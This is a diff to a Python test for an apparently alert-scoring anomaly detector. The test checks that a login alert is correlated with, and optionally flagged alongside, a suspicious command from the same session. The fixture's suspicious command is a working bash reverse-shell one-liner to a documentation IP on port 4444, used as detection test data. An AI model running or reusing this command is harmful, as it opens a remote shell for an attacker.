@@ -119,19 +119,28 @@ def test_console_script_and_module_entry_points(trained):
 def test_score_correlate_lifts_related_alerts(trained, tmp_path, capsys):
     d, _ = trained
     t = F.BASE + __import__("datetime").timedelta(days=6, hours=14)
-    m = __import__("datetime").timedelta(seconds=20)
+    m = __import__("datetime").timedelta(seconds=2)
+    shell = F.command(t + m, ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], user="deploy")
+    shell["data"]["audit"].update({"session": "812", "pid": "4242", "ppid": "4200"})
+    shell["full_log"] += ' AUID="deploy"'
     alerts = [F.event(t, "5501", desc="PAM: Login session opened.", groups=["pam", "syslog", "authentication_success"],
-                      user="deploy"),
-              F.command(t + m, ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], user="deploy")]
+                      user="deploy"), shell]
     src = _jsonl(tmp_path / "session.json", alerts)
-    assert main(["score", "-m", str(d / "model"), "-i", src, "--all", "--format", "jsonl"]) == EXIT_OK
+    argv = ["score", "-m", str(d / "model"), "-i", src, "--all", "--format", "jsonl"]
+    assert main(argv) == EXIT_OK
     plain = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
-    assert main(["score", "-m", str(d / "model"), "-i", src, "--all", "--format", "jsonl", "--correlate"]) == EXIT_OK
+    assert main(argv + ["--correlate"]) == EXIT_OK
     corr = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
+    assert main(argv + ["--correlate", "--flag-related"]) == EXIT_OK
+    flagged = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
     assert not plain[0]["anomaly"] and plain[1]["anomaly"] and plain[1]["severity"] in ("medium", "high", "critical")
-    assert corr[1]["score"] == plain[1]["score"]
-    assert corr[0]["anomaly"] and corr[0]["score"] > plain[0]["score"]
-    assert corr[0]["related_to"] == alerts[1]["id"] and "same user 'deploy'" in corr[0]["reasons"][0]
+    assert corr[1]["score"] == plain[1]["score"] and flagged[1]["score"] == plain[1]["score"]
+    # the login line of the shell's session: ranked under its anomaly, not flagged on its own
+    assert corr[0]["related_to"] == alerts[1]["id"] and not corr[0]["anomaly"]
+    assert plain[0]["score"] < corr[0]["score"] < corr[0]["threshold"]
+    # --flag-related: flagged, and the reason names the tie and the seed
+    assert flagged[0]["anomaly"] and flagged[0]["related_to"] == alerts[1]["id"]
+    assert flagged[0]["reasons"][0].startswith("the login of the session as anomaly " + alerts[1]["id"])
 
 
 def test_generate_passes_its_options_to_the_generator(tmp_path):
